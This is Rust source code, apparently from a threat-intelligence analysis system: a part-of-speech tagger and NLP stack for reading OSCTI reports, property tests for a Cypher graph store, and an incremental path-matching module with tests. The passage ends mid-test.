    "email",
    "extension",
    "file",
    "files",
    "host",
    "image",
    "information",
    "link",
    "machine",
    "malware",
    "metadata",
    "network",
    "password",
    "passwords",
    "payload",
    "process",
    "processes",
    "reconnaissance",
    "repository",
    "scanning",
    "script",
    "server",
    "service",
    "shell",
    "stage",
    "step",
    "system",
    "text",
    "tool",
    "user",
    "users",
    "utility",
    "victim",
    "vulnerability",
    "something",
];

fn closed_class(lower: &str) -> Option<PosTag> {
    Some(match lower {
        "the" | "a" | "an" | "this" | "these" | "those" | "its" | "his" | "her" | "their"
        | "all" | "each" | "every" | "any" | "some" | "no" | "both" => PosTag::Det,
        "it" | "he" | "she" | "they" | "them" | "him" | "itself" | "himself" | "themselves"
        | "who" | "whom" | "what" => PosTag::Pron,
        "which" | "that" => PosTag::Sconj, // repaired to Det/Pron contextually
        "from" | "to" | "into" | "onto" | "on" | "in" | "with" | "by" | "of" | "at" | "over"
        | "through" | "against" | "via" | "for" | "as" | "back" | "up" | "down" | "inside"
        | "within" | "without" | "across" | "after" | "before" | "during" | "under" => PosTag::Adp,
        "and" | "or" | "but" => PosTag::Cconj,
        "because" | "while" | "when" | "where" | "if" | "since" | "although" | "once" => {
            PosTag::Sconj
        }
        "is" | "are" | "was" | "were" | "be" | "been" | "being" | "am" | "has" | "have" | "had"
        | "do" | "does" | "did" | "will" | "would" | "can" | "could" | "may" | "might"
        | "should" | "must" | "shall" => PosTag::Aux,
        "then" | "finally" | "first" | "next" | "also" | "later" | "subsequently" | "mainly"
        | "remotely" | "locally" | "further" | "eventually" | "afterwards" | "not" => PosTag::Adv,
        _ => return None,
    })
}

fn is_irregular_past(lower: &str) -> bool {
    matches!(
        lower,
        "wrote"
            | "sent"
            | "ran"
            | "took"
            | "stole"
            | "got"
            | "began"
            | "hid"
            | "made"
            | "gave"
            | "went"
            | "came"
            | "found"
            | "left"
            | "put"
            | "set"
            | "kept"
            | "held"
            | "brought"
            | "built"
            | "sought"
            | "spread"
    )
}

fn in_verb_lexicon(lower: &str) -> bool {
    VERB_LEXICON.binary_search(&lower).is_ok()
}

fn in_noun_lexicon(lower: &str) -> bool {
    NOUN_LEXICON.contains(&lower)
}

/// Morphological guess for an open-class word, without context.
fn morphology(lower: &str) -> (PosTag, Option<VerbForm>) {
    if is_irregular_past(lower) {
        return (PosTag::Verb, Some(VerbForm::Past));
    }
    if in_verb_lexicon(lower) {
        return (PosTag::Verb, Some(VerbForm::Base));
    }
    if let Some(stem) = lower.strip_suffix("ing") {
        if stem.len() >= 2
            && (in_verb_lexicon(stem) || in_verb_lexicon(&format!("{stem}e")) || is_cvc(stem))
        {
            return (PosTag::Verb, Some(VerbForm::Gerund));
        }
    }
    if let Some(stem) = lower.strip_suffix("ed") {
        if stem.len() >= 2 {
            return (PosTag::Verb, Some(VerbForm::Past));
        }
    }
    if lower.ends_with("ly") && lower.len() > 3 {
        return (PosTag::Adv, None);
    }
    if lower.ends_with("tion")
        || lower.ends_with("ment")
        || lower.ends_with("ness")
        || lower.ends_with("ity")
        || lower.ends_with("ance")
        || lower.ends_with("ence")
    {
        return (PosTag::Noun, None);
    }
    if let Some(stem) = lower.strip_suffix('s') {
        if in_verb_lexicon(stem) {
            // "downloads", "reads": verb (3rd person) or plural noun —
            // resolved contextually; default to verb.
            return (PosTag::Verb, Some(VerbForm::ThirdPerson));
        }
    }
    (PosTag::Noun, None)
}

/// Consonant-vowel-consonant ending with doubled final consonant stripped,
/// e.g. "stopping" → "stopp" → try "stop".
fn is_cvc(stem: &str) -> bool {
    if stem.len() >= 3 {
        let b = stem.as_bytes();
        if b[b.len() - 1] == b[b.len() - 2] {
            let undoubled = &stem[..stem.len() - 1];
            return in_verb_lexicon(undoubled);
        }
    }
    false
}

/// Tags a token slice in place.
pub fn tag(tokens: &mut [Token]) {
    // Pass 1: context-free tags.
    for (i, tok) in tokens.iter_mut().enumerate() {
        if tok.is_punct() || tok.text.chars().all(|c| c.is_ascii_punctuation()) {
            tok.pos = PosTag::Punct;
            continue;
        }
        if tok.text.chars().next().is_some_and(|c| c.is_ascii_digit()) {
            tok.pos = PosTag::Num;
            continue;
        }
        if let Some(t) = closed_class(&tok.lower) {
            tok.pos = t;
            continue;
        }
        if in_noun_lexicon(&tok.lower) {
            tok.pos = PosTag::Noun;
            continue;
        }
        let (t, form) = morphology(&tok.lower);
        // Capitalized unknown word mid-sentence → proper noun
        // ("VPNFilter", "GnuPG", "Dropbox").
        let capitalized = tok.text.chars().next().is_some_and(char::is_uppercase);
        if capitalized && i > 0 && t == PosTag::Noun {
            tok.pos = PosTag::Propn;
        } else {
            tok.pos = t;
            tok.verb_form = form;
        }
    }

    // Pass 2: context repair.
    for i in 0..tokens.len() {
        let prev = if i > 0 { Some(tokens[i - 1].pos) } else { None };
        let next = tokens.get(i + 1).map(|t| (t.pos, t.lower.clone()));

        // Demonstrative directly before a verb is a pronoun subject
        // ("This corresponds to ...", "That connects to ...").
        if matches!(tokens[i].lower.as_str(), "this" | "that" | "these" | "those")
            && tokens[i].pos == PosTag::Det
        {
            if let Some((np, _)) = &next {
                if matches!(np, PosTag::Verb | PosTag::Aux) {
                    tokens[i].pos = PosTag::Pron;
                    continue;
                }
            }
        }
        // Infinitival `to`: ADP → PART when a base verb follows.
        if tokens[i].lower == "to" {
            if let Some((_, nl)) = &next {
                if in_verb_lexicon(nl) || is_irregular_past(nl) {
                    tokens[i].pos = PosTag::Part;
                    continue;
                }
            }
        }
        // After infinitival `to` or a modal: base verb.
        if (matches!(prev, Some(PosTag::Part))
            || (i > 0 && tokens[i - 1].pos == PosTag::Aux && is_modal(&tokens[i - 1].lower)))
            && in_verb_lexicon(&tokens[i].lower)
        {
            tokens[i].pos = PosTag::Verb;
            tokens[i].verb_form = Some(VerbForm::Base);
            continue;
        }
        // Determiner/adjective + past-verb + noun → participial adjective
        // ("the gathered information", "the launched process").
        if matches!(prev, Some(PosTag::Det) | Some(PosTag::Adj))
            && tokens[i].pos == PosTag::Verb
            && matches!(tokens[i].verb_form, Some(VerbForm::Past))
        {
            let noun_follows = tokens
                .get(i + 1)
                .map(|t| matches!(t.pos, PosTag::Noun | PosTag::Propn | PosTag::Num))
                .unwrap_or(false);
            if noun_follows {
                tokens[i].pos = PosTag::Adj;
                tokens[i].verb_form = None;
                continue;
            }
        }
        // Determiner + verb-tagged word (not participle) → noun
        // ("a download", "the use").
        if matches!(prev, Some(PosTag::Det))
            && tokens[i].pos == PosTag::Verb
            && matches!(tokens[i].verb_form, Some(VerbForm::Base) | Some(VerbForm::ThirdPerson))
        {
            tokens[i].pos = PosTag::Noun;
            tokens[i].verb_form = None;
            continue;
        }
        // AUX + past form → passive participle ("was downloaded").
        if matches!(prev, Some(PosTag::Aux))
            && tokens[i].pos == PosTag::Verb
            && matches!(tokens[i].verb_form, Some(VerbForm::Past))
        {
            tokens[i].verb_form = Some(VerbForm::Participle);
        }
        // `which`/`that` before a verb acts as a relative pronoun.
        if matches!(tokens[i].lower.as_str(), "which" | "that") {
            let verb_follows = tokens
                .get(i + 1)
                .map(|t| matches!(t.pos, PosTag::Verb | PosTag::Aux))
                .unwrap_or(false);
            if verb_follows {
                tokens[i].pos = PosTag::Pron;
            } else if tokens[i].lower == "that" {
                tokens[i].pos = PosTag::Det;
            }
        }
    }
}

fn is_modal(lower: &str) -> bool {
    matches!(
        lower,
        "will" | "would" | "can" | "could" | "may" | "might" | "should" | "must" | "shall"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tokenize::tokenize;

    fn tagged(s: &str) -> Vec<(String, PosTag)> {
        let mut toks = tokenize(s, 0);
        tag(&mut toks);
        toks.into_iter().map(|t| (t.text, t.pos)).collect()
    }

    fn tags_of(s: &str) -> Vec<PosTag> {
        tagged(s).into_iter().map(|(_, t)| t).collect()
    }

    #[test]
    fn verb_lexicon_is_sorted_for_binary_search() {
        let mut sorted = VERB_LEXICON.to_vec();
        sorted.sort_unstable();
        assert_eq!(sorted, VERB_LEXICON);
    }

    #[test]
    fn simple_declarative() {
        let t = tagged("The attacker used something to read credentials from something");
        assert_eq!(t[0].1, PosTag::Det);
        assert_eq!(t[1].1, PosTag::Noun); // attacker
        assert_eq!(t[2].1, PosTag::Verb); // used
        assert_eq!(t[3].1, PosTag::Noun); // something
        assert_eq!(t[4].1, PosTag::Part); // to (infinitival)
        assert_eq!(t[5].1, PosTag::Verb); // read
        assert_eq!(t[7].1, PosTag::Adp); // from
    }

    #[test]
    fn participial_adjective_after_det() {
        let t = tagged("It wrote the gathered information to a file");
        assert_eq!(t[1].1, PosTag::Verb); // wrote (irregular past)
        assert_eq!(t[3].1, PosTag::Adj); // gathered
        assert_eq!(t[4].1, PosTag::Noun); // information
        assert_eq!(t[5].1, PosTag::Adp); // to (prepositional: followed by DET)
    }

    #[test]
    fn passive_participle() {
        let mut toks = tokenize("the file was downloaded by the malware", 0);
        tag(&mut toks);
        assert_eq!(toks[3].pos, PosTag::Verb);
        assert_eq!(toks[3].verb_form, Some(VerbForm::Participle));
        assert_eq!(toks[4].pos, PosTag::Adp); // by
    }

    #[test]
    fn third_person_verbs() {
        let t = tagged("The malware downloads the payload");
        assert_eq!(t[1].1, PosTag::Noun);
        assert_eq!(t[2].1, PosTag::Verb); // downloads
        assert_eq!(t[4].1, PosTag::Noun);
    }

    #[test]
    fn proper_nouns_mid_sentence() {
        let t = tagged("The attacker connects to Dropbox");
        assert_eq!(t[4].1, PosTag::Propn);
    }

    #[test]
    fn gerund_after_noun() {
        let mut toks = tokenize("the process something reading from something", 0);
        tag(&mut toks);
        let reading = toks.iter().find(|t| t.lower == "reading").unwrap();
        assert_eq!(reading.pos, PosTag::Verb);
        assert_eq!(reading.verb_form, Some(VerbForm::Gerund));
    }

    #[test]
    fn relative_pronoun_which() {
        let t = tagged("the file which corresponds to the process");
        assert_eq!(t[2].1, PosTag::Pron); // which (verb follows)
    }

    #[test]
    fn numbers_and_punct() {
        let t = tags_of("stage 2 server , done .");
        assert_eq!(t[1], PosTag::Num);
        assert_eq!(t[3], PosTag::Punct);
        assert_eq!(t[5], PosTag::Punct);
    }

    #[test]
    fn coordination() {
        let t = tagged("something read from something and wrote to something");
        let and = &t[4];
        assert_eq!(and.1, PosTag::Cconj);
        assert_eq!(t[5].1, PosTag::Verb); // wrote
    }

    #[test]
    fn noun_after_det_for_ambiguous_words() {
        let t = tagged("the download finished");
        assert_eq!(t[1].1, PosTag::Noun);
    }
}
