//! A deterministic NLP stack for OSCTI prose.
//!
//! The paper builds its threat-behavior extraction pipeline on spaCy:
//! sentence segmentation, tokenization, POS tags, a pretrained dependency
//! parser, word vectors, and lemmatization. The Rust NLP ecosystem has no
//! equivalent pretrained stack, so this crate implements a rule/lexicon-based
//! replacement tuned to the register OSCTI reports are written in — simple
//! declarative English ("The attacker used X to read Y from Z") — which is
//! exactly the text the pipeline sees *after IOC protection* has replaced
//! every IOC with a dummy noun (DESIGN.md §1 documents the substitution).
//!
//! Components:
//!
//! * [`tokenize`] — rule-based word/punctuation tokenizer,
//! * [`sentence`] — sentence segmentation with an abbreviation list,
//! * [`pos`] — lexicon + morphology + context-repair POS tagger,
//! * [`lemma`] — irregular-table + suffix-stripping lemmatizer,
//! * [`dep`] — a deterministic dependency parser producing UD-style trees
//!   (nsubj/dobj/prep/pobj/xcomp/conj/acl/...), with LCA and path utilities
//!   used by relation extraction,
//! * [`vector`] — hashed character-n-gram embeddings with cosine similarity
//!   (the word-vector substitute used for IOC merging).

pub mod dep;
pub mod lemma;
pub mod pos;
pub mod sentence;
pub mod tokenize;
pub mod vector;

pub use dep::{DepLabel, DepNode, DepTree};
pub use pos::{PosTag, VerbForm};
pub use tokenize::Token;
