//! Property-based tests: variable-length path semantics against a
//! brute-force oracle on random DAG-ish graphs.

use proptest::prelude::*;
use raptor_common::FxHashSet;
use raptor_graphstore::cypher::exec::execute;
use raptor_graphstore::cypher::parse_cypher;
use raptor_graphstore::graph::PropIns;
use raptor_graphstore::{Graph, NodeId};

/// All nodes reachable from `src` within `[min, max]` hops, using
/// edge-distinct walks (the executor's uniqueness rule), brute force.
fn oracle_reachable(edges: &[(usize, usize)], src: usize, min: u32, max: u32) -> FxHashSet<usize> {
    let mut out = FxHashSet::default();
    let mut stack: Vec<(usize, u32, Vec<usize>)> = vec![(src, 0, Vec::new())];
    while let Some((n, d, used)) = stack.pop() {
        if d >= min && d > 0 {
            out.insert(n);
        }
        if d == max {
            continue;
        }
        for (ei, &(a, b)) in edges.iter().enumerate() {
            if a == n && !used.contains(&ei) {
                let mut u2 = used.clone();
                u2.push(ei);
                stack.push((b, d + 1, u2));
            }
        }
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn var_length_matches_oracle(
        n in 2usize..8,
        edges in proptest::collection::vec((0usize..8, 0usize..8), 0..14),
        min in 1u32..3,
        extra in 0u32..3,
    ) {
        let edges: Vec<(usize, usize)> =
            edges.into_iter().map(|(a, b)| (a % n, b % n)).collect();
        let max = min + extra;
        let mut g = Graph::new();
        for i in 0..n {
            g.add_node("N", &[("name", PropIns::Str(&format!("n{i}")))]);
        }
        for &(a, b) in &edges {
            g.add_edge(NodeId(a as u32), NodeId(b as u32), "E", &[]).unwrap();
        }
        let src = 0usize;
        let q = parse_cypher(&format!(
            "MATCH (x {{name: 'n{src}'}})-[:E*{min}..{max}]->(y) RETURN DISTINCT y.name"
        )).unwrap();
        let r = execute(&g, &q, 16).unwrap();
        let got: FxHashSet<String> =
            r.rows.iter().map(|row| row[0].render(g.dict())).collect();
        let want: FxHashSet<String> = oracle_reachable(&edges, src, min, max)
            .into_iter()
            .map(|i| format!("n{i}"))
            .collect();
        prop_assert_eq!(got, want);
    }

    /// Fixed single-hop pattern agrees with direct adjacency.
    #[test]
    fn single_hop_matches_adjacency(
        n in 2usize..8,
        edges in proptest::collection::vec((0usize..8, 0usize..8), 0..14),
    ) {
        let edges: Vec<(usize, usize)> =
            edges.into_iter().map(|(a, b)| (a % n, b % n)).collect();
        let mut g = Graph::new();
        for i in 0..n {
            g.add_node("N", &[("name", PropIns::Str(&format!("n{i}")))]);
        }
        for &(a, b) in &edges {
            g.add_edge(NodeId(a as u32), NodeId(b as u32), "E", &[]).unwrap();
        }
        let q = parse_cypher("MATCH (x)-[:E]->(y) RETURN x.name, y.name").unwrap();
        let r = execute(&g, &q, 16).unwrap();
        // Row multiset equals the edge multiset.
        let mut got: Vec<(String, String)> = r
            .rows
            .iter()
            .map(|row| (row[0].render(g.dict()), row[1].render(g.dict())))
            .collect();
        got.sort();
        let mut want: Vec<(String, String)> = edges
            .iter()
            .map(|&(a, b)| (format!("n{a}"), format!("n{b}")))
            .collect();
        want.sort();
        prop_assert_eq!(got, want);
    }
}
