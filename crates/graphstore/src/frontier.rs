//! Delta-incremental variable-length path matching.
//!
//! A [`PathFrontier`] caches, for one compiled variable-length path pattern,
//! which anchor nodes reach which frontier nodes in how many hops. Standing
//! queries advance it once per ingestion epoch: new EVENT edges *relax* the
//! cached min-distance map (extending existing frontiers and retro-seeding
//! walks that pass *through* the new edge) instead of re-walking the whole
//! graph, so per-epoch cost tracks the epoch size, not the store size.
//!
//! ## Equivalence with batch evaluation
//!
//! The batch executor ([`crate::cypher::exec`]) matches a multi-hop path
//! pattern as a bounded DFS with per-segment edge-distinctness and returns
//! DISTINCT `(subject, object)` pairs (event columns are only returned for
//! single-hop patterns, which stay on the existing delta path). For the
//! pattern shapes the frontier accepts (`min_hops <= 1`, or `<= 2` with a
//! final-hop operation — every shape TBQL's `~>(m~n)` sugar produces), pair
//! membership reduces to *shortest-walk* reachability:
//!
//! * an edge-distinct walk of length `d` in `[max(min,1), hi]` from `a` to
//!   `x` exists iff the shortest walk `a -> x` has length `<= hi` — a
//!   shortest walk never repeats a vertex, hence never repeats an edge, and
//!   its length is always `>= 1 >= min`;
//! * `x == a` closures are witnessed by the shortest *cycle* through `a`
//!   (stored as `dist[a][a]`; the zero-length walk is handled separately at
//!   anchor creation when `min == 0`);
//! * with a final-hop operation the pattern is lowered as an unconstrained
//!   prefix of `[min-1, hi-1]` hops plus one constrained final edge — the
//!   final edge is a *separate* segment in the batch lowering and may repeat
//!   prefix edges, which is exactly what scanning all out-edges of every
//!   reached prefix endpoint reproduces.
//!
//! Because shortest distances only ever shrink on a grow-only store, the
//! emitted pair set grows monotonically and the frontier never retracts.
//! Entity and final-hop predicates are evaluated through the same lowered
//! Cypher expressions (`backend::pred_to_cexpr`) and the same evaluator
//! (`cypher::exec::eval_single_node`) the batch path uses, so predicate
//! semantics cannot drift.
//!
//! The candidate-id lists (`id_in`) the standing planner pushes into batch
//! requests are deliberately ignored: they are filter-derived and grow-only,
//! so on any store every id passing the filter is in the list and vice
//! versa — evaluating the filter itself yields the same set.

use raptor_common::error::{Error, Result};
use raptor_common::hash::{FxHashMap, FxHashSet};
use raptor_common::intern::SharedDict;
use raptor_common::io;
use raptor_storage::PathPatternQuery;

use crate::backend::{label_for_class, pred_to_cexpr};
use crate::cypher::ast::CExpr;
use crate::cypher::exec::{eval_single_edge, eval_single_node};
use crate::graph::{Graph, NodeId, PropValue};

/// Cached per-query frontier state for one variable-length path pattern.
pub struct PathFrontier {
    // --- immutable spec, rebuilt from the compiled query (never serialized)
    subj_label: &'static str,
    obj_label: &'static str,
    subj_pred: Option<CExpr>,
    obj_pred: Option<CExpr>,
    final_pred: Option<CExpr>,
    subject_is_object: bool,
    /// Anchors themselves are valid prefix endpoints (`min_hops <= 1` with a
    /// final hop — the prefix may be zero-length).
    zero_prefix: bool,
    /// `min_hops == 0` without a final hop: every anchor matches itself.
    emit_self: bool,
    /// Max relaxation depth: the effective DFS bound of the variable-length
    /// segment (`hi` capped by `hop_cap`; one less with a final hop).
    limit: u32,

    // --- incremental state
    node_mark: usize,
    edge_mark: usize,
    anchors: FxHashSet<u32>,
    /// `dist[node][anchor]` = shortest EVENT-walk length in `1..=limit`.
    /// `dist[a][a]` is the shortest cycle through `a`, never 0.
    dist: FxHashMap<u32, FxHashMap<u32, u32>>,
    /// Emitted `(subject id, object id)` pairs.
    seen: FxHashSet<(i64, i64)>,
}

impl PathFrontier {
    /// Builds a frontier for a compiled path request, or `None` when the
    /// request's shape is outside the frontier's equivalence envelope and
    /// must stay on full re-evaluation.
    pub fn new(q: &PathPatternQuery, dict: &SharedDict) -> Result<Option<PathFrontier>> {
        let single_hop = q.min_hops == 1 && q.max_hops == Some(1);
        if q.want_event || q.final_event_id_in.is_some() || single_hop {
            return Ok(None);
        }
        // Shortest-walk reachability witnesses every admissible length only
        // when the lower bound cannot exceed 1 (prefix lower bound, with a
        // final hop).
        let eligible = match &q.final_hop_pred {
            Some(_) => q.min_hops <= 2,
            None => q.min_hops <= 1,
        };
        if !eligible {
            return Ok(None);
        }
        let subj_pred =
            q.subject.filter.as_ref().map(|f| pred_to_cexpr("s", f, dict)).transpose()?;
        let obj_pred = if q.subject_is_object {
            None
        } else {
            q.object.filter.as_ref().map(|f| pred_to_cexpr("o", f, dict)).transpose()?
        };
        let final_pred =
            q.final_hop_pred.as_ref().map(|p| pred_to_cexpr("e", p, dict)).transpose()?;
        let limit = match final_pred {
            Some(_) => q.max_hops.map(|m| m.saturating_sub(1)).unwrap_or(q.hop_cap),
            None => q.max_hops.unwrap_or(q.hop_cap),
        }
        .min(q.hop_cap);
        Ok(Some(PathFrontier {
            subj_label: label_for_class(q.subject.class),
            obj_label: label_for_class(q.object.class),
            subj_pred,
            obj_pred,
            zero_prefix: final_pred.is_some() && q.min_hops <= 1,
            emit_self: final_pred.is_none() && q.min_hops == 0,
            final_pred,
            subject_is_object: q.subject_is_object,
            limit,
            node_mark: 0,
            edge_mark: 0,
            anchors: FxHashSet::default(),
            dist: FxHashMap::default(),
            seen: FxHashSet::default(),
        }))
    }

    /// Number of cached `(node, anchor)` distance entries (metrics gauge).
    pub fn entries(&self) -> usize {
        self.dist.values().map(FxHashMap::len).sum()
    }

    /// Marks pairs as already emitted (restoring from checkpointed matches).
    pub fn seed_seen(&mut self, pairs: impl IntoIterator<Item = (i64, i64)>) {
        self.seen.extend(pairs);
    }

    /// Absorbs everything the store gained since the last call and returns
    /// the *new* `(subject id, object id)` pairs, sorted. A fresh frontier
    /// absorbs the whole store, which equals batch evaluation; thereafter
    /// each call costs work proportional to the delta, not the store.
    pub fn advance(&mut self, g: &Graph) -> Vec<(i64, i64)> {
        let mut out: Vec<(i64, i64)> = Vec::new();
        let subj_sym = g.dict().get(self.subj_label);
        let event_sym = g.dict().get("EVENT");

        // New nodes: collect anchors; `min == 0` matches the anchor itself.
        let node_count = g.node_count();
        for idx in self.node_mark..node_count {
            let n = NodeId(idx as u32);
            if Some(g.node(n).label) != subj_sym {
                continue;
            }
            if let Some(p) = &self.subj_pred {
                if !eval_single_node(g, p, "s", n) {
                    continue;
                }
            }
            self.anchors.insert(n.0);
            if self.emit_self && self.object_ok(g, n, n.0) {
                self.emit(g, n.0, n.0, &mut out);
            }
        }
        self.node_mark = node_count;

        // New edges: each may (a) serve as the constrained final hop of an
        // already-cached prefix, and (b) shorten walks for every anchor that
        // reaches its source, which propagates forward through *all* current
        // edges (retro-seeding walks through the new edge).
        let edge_count = g.edge_count();
        if let Some(event_sym) = event_sym {
            for idx in self.edge_mark..edge_count {
                let eid = crate::graph::EdgeId(idx as u32);
                let e = g.edge(eid);
                if e.label != event_sym {
                    continue;
                }
                let (u, v) = (e.src, e.dst);
                if let Some(fp) = &self.final_pred {
                    if eval_single_edge(g, fp, "e", eid) {
                        let mut endpoints: Vec<u32> = Vec::new();
                        if self.zero_prefix && self.anchors.contains(&u.0) {
                            endpoints.push(u.0);
                        }
                        if let Some(m) = self.dist.get(&u.0) {
                            endpoints.extend(m.keys().copied());
                        }
                        for a in endpoints {
                            if self.object_ok(g, v, a) {
                                self.emit(g, a, v.0, &mut out);
                            }
                        }
                    }
                }
                self.relax(g, event_sym, u.0, v.0, &mut out);
            }
        }
        self.edge_mark = edge_count;

        out.sort_unstable();
        out
    }

    /// Relaxes the min-distance map through the new edge `u -> v` for every
    /// anchor currently reaching `u` (or `u` itself when it is an anchor),
    /// propagating improvements forward along existing EVENT edges.
    fn relax(
        &mut self,
        g: &Graph,
        event_sym: raptor_common::Sym,
        u: u32,
        v: u32,
        out: &mut Vec<(i64, i64)>,
    ) {
        if self.limit == 0 {
            return;
        }
        // (node, anchor, candidate distance); pushes are pre-filtered to
        // `<= limit`.
        let mut work: Vec<(u32, u32, u32)> = Vec::new();
        if self.anchors.contains(&u) {
            work.push((v, u, 1));
        }
        if let Some(m) = self.dist.get(&u) {
            for (&a, &d) in m {
                if d < self.limit {
                    work.push((v, a, d + 1));
                }
            }
        }
        while let Some((n, a, d)) = work.pop() {
            let slot = self.dist.entry(n).or_default();
            let created = match slot.get(&a) {
                Some(&prev) if prev <= d => continue,
                Some(_) => {
                    slot.insert(a, d);
                    false
                }
                None => {
                    slot.insert(a, d);
                    true
                }
            };
            if created {
                self.on_reached(g, NodeId(n), a, out);
            }
            if d < self.limit {
                for &eid in g.out_edges(NodeId(n)) {
                    let e = g.edge(eid);
                    if e.label == event_sym {
                        work.push((e.dst.0, a, d + 1));
                    }
                }
            }
        }
    }

    /// Anchor `a` reaches node `n` within the depth bound for the first
    /// time: emit pair matches ending at `n` (no final hop) or through each
    /// of `n`'s qualifying out-edges (final hop; edges may predate `n`'s
    /// reachability — this is the retro-seeding direction).
    fn on_reached(&mut self, g: &Graph, n: NodeId, a: u32, out: &mut Vec<(i64, i64)>) {
        match &self.final_pred {
            None => {
                if self.object_ok(g, n, a) {
                    self.emit(g, a, n.0, out);
                }
            }
            Some(fp) => {
                let event_sym = g.dict().get("EVENT");
                let mut hits: Vec<u32> = Vec::new();
                for &eid in g.out_edges(n) {
                    let e = g.edge(eid);
                    if Some(e.label) == event_sym
                        && eval_single_edge(g, fp, "e", eid)
                        && self.object_ok(g, e.dst, a)
                    {
                        hits.push(e.dst.0);
                    }
                }
                for o in hits {
                    self.emit(g, a, o, out);
                }
            }
        }
    }

    /// Does `n` qualify as the pattern's object for anchor `a`?
    fn object_ok(&self, g: &Graph, n: NodeId, a: u32) -> bool {
        if self.subject_is_object {
            return n.0 == a;
        }
        match g.dict().get(self.obj_label) {
            Some(sym) if g.node(n).label == sym => {}
            _ => return false,
        }
        match &self.obj_pred {
            Some(p) => eval_single_node(g, p, "o", n),
            None => true,
        }
    }

    fn emit(&mut self, g: &Graph, a: u32, o: u32, out: &mut Vec<(i64, i64)>) {
        let id = |n: u32| match g.node_prop(NodeId(n), "id") {
            Some(PropValue::Int(i)) => i,
            _ => -1,
        };
        let pair = (id(a), id(o));
        if self.seen.insert(pair) {
            out.push(pair);
        }
    }

    /// Serializes the incremental state (watermarks, anchors, distance map)
    /// with fully sorted iteration so the encoding is deterministic. The
    /// emitted-pair set is *not* serialized: the checkpoint already carries
    /// the accumulated matches, and [`PathFrontier::seed_seen`] rebuilds it
    /// from them on restore.
    pub fn encode(&self, buf: &mut Vec<u8>) {
        io::put_u64(buf, self.node_mark as u64);
        io::put_u64(buf, self.edge_mark as u64);
        let mut anchors: Vec<u32> = self.anchors.iter().copied().collect();
        anchors.sort_unstable();
        io::put_u64(buf, anchors.len() as u64);
        for a in anchors {
            io::put_u32(buf, a);
        }
        let mut nodes: Vec<u32> = self.dist.keys().copied().collect();
        nodes.sort_unstable();
        io::put_u64(buf, nodes.len() as u64);
        for n in nodes {
            io::put_u32(buf, n);
            let mut entries: Vec<(u32, u32)> =
                self.dist[&n].iter().map(|(&a, &d)| (a, d)).collect();
            entries.sort_unstable();
            io::put_u64(buf, entries.len() as u64);
            for (a, d) in entries {
                io::put_u32(buf, a);
                io::put_u32(buf, d);
            }
        }
    }

    /// Restores state written by [`PathFrontier::encode`] into a freshly
    /// built frontier for the same compiled query. Corrupt input yields a
    /// typed error, never a panic.
    pub fn decode(&mut self, cur: &mut io::Cur<'_>) -> Result<()> {
        let node_mark = cur.get_u64()? as usize;
        let edge_mark = cur.get_u64()? as usize;
        let mut anchors = FxHashSet::default();
        for _ in 0..cur.get_len()? {
            anchors.insert(cur.get_u32()?);
        }
        let mut dist: FxHashMap<u32, FxHashMap<u32, u32>> = FxHashMap::default();
        for _ in 0..cur.get_len()? {
            let n = cur.get_u32()?;
            let mut m = FxHashMap::default();
            for _ in 0..cur.get_len()? {
                let a = cur.get_u32()?;
                let d = cur.get_u32()?;
                if d == 0 || d > self.limit {
                    return Err(Error::storage(format!(
                        "frontier distance {d} outside 1..={} (corrupt state)",
                        self.limit
                    )));
                }
                m.insert(a, d);
            }
            dist.insert(n, m);
        }
        self.node_mark = node_mark;
        self.edge_mark = edge_mark;
        self.anchors = anchors;
        self.dist = dist;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::graph::PropIns;
    use raptor_storage::{CmpOp, EntityClass, EntitySel, Pred, StorageBackend, Value};

    fn proc(g: &mut Graph, id: i64, exe: &str) -> NodeId {
        g.add_node("Process", &[("id", PropIns::Int(id)), ("exename", PropIns::Str(exe))])
    }

    fn file(g: &mut Graph, id: i64, name: &str) -> NodeId {
        g.add_node("File", &[("id", PropIns::Int(id)), ("name", PropIns::Str(name))])
    }

    fn ev(g: &mut Graph, id: i64, src: NodeId, dst: NodeId, op: &str) {
        let _ = g.add_edge(
            src,
            dst,
            "EVENT",
            &[
                ("id", PropIns::Int(id)),
                ("optype", PropIns::Str(op)),
                ("starttime", PropIns::Int(id * 10)),
                ("endtime", PropIns::Int(id * 10 + 1)),
            ],
        );
    }

    fn sel(class: EntityClass) -> EntitySel {
        EntitySel { class, filter: None, id_in: None }
    }

    fn req(min: u32, max: Option<u32>, op: Option<&str>, dict: &SharedDict) -> PathPatternQuery {
        PathPatternQuery {
            subject: sel(EntityClass::Process),
            object: sel(EntityClass::File),
            min_hops: min,
            max_hops: max,
            hop_cap: 8,
            final_hop_pred: op.map(|o| Pred::Cmp {
                attr: "optype".into(),
                op: CmpOp::Eq,
                value: Value::Str(dict.intern(o)),
            }),
            final_event_id_in: None,
            want_event: false,
            subject_is_object: false,
        }
    }

    /// Batch pairs for the same request, via the storage backend.
    fn batch_pairs(g: &Graph, q: &PathPatternQuery) -> Vec<(i64, i64)> {
        let mut stats = raptor_storage::BackendStats::default();
        let m = g.match_path_pattern(q, &mut stats).unwrap();
        let mut pairs: Vec<(i64, i64)> = (0..m.len()).map(|i| (m.subj[i], m.obj[i])).collect();
        pairs.sort_unstable();
        pairs
    }

    /// Incremental absorption equals batch evaluation at every step, and
    /// emitted deltas never retract.
    #[test]
    fn frontier_tracks_batch_at_every_step() {
        let mut g = Graph::new();
        let q = req(1, Some(3), None, &g.dict().clone());
        let mut f = PathFrontier::new(&q, &g.dict().clone()).unwrap().unwrap();
        let mut acc: Vec<(i64, i64)> = Vec::new();

        let p0 = proc(&mut g, 0, "/bin/tar");
        let p1 = proc(&mut g, 1, "/bin/bzip2");
        let f2 = file(&mut g, 2, "/tmp/a");
        let f3 = file(&mut g, 3, "/tmp/b");
        acc.extend(f.advance(&g));
        assert!(acc.is_empty(), "no edges yet");

        ev(&mut g, 0, p0, f2, "write");
        acc.extend(f.advance(&g));
        assert_eq!(acc, vec![(0, 2)]);

        // A new edge *extending* the cached frontier (p0 ~> f3 via p1).
        ev(&mut g, 1, p0, p1, "fork");
        ev(&mut g, 2, p1, f3, "write");
        acc.extend(f.advance(&g));
        acc.sort_unstable();
        assert_eq!(acc, batch_pairs(&g, &q));

        // Retro-seeding: an edge in the *middle* of a pre-existing prefix
        // and suffix creates pairs passing through it.
        let p4 = proc(&mut g, 4, "/usr/bin/gpg");
        let f5 = file(&mut g, 5, "/tmp/c");
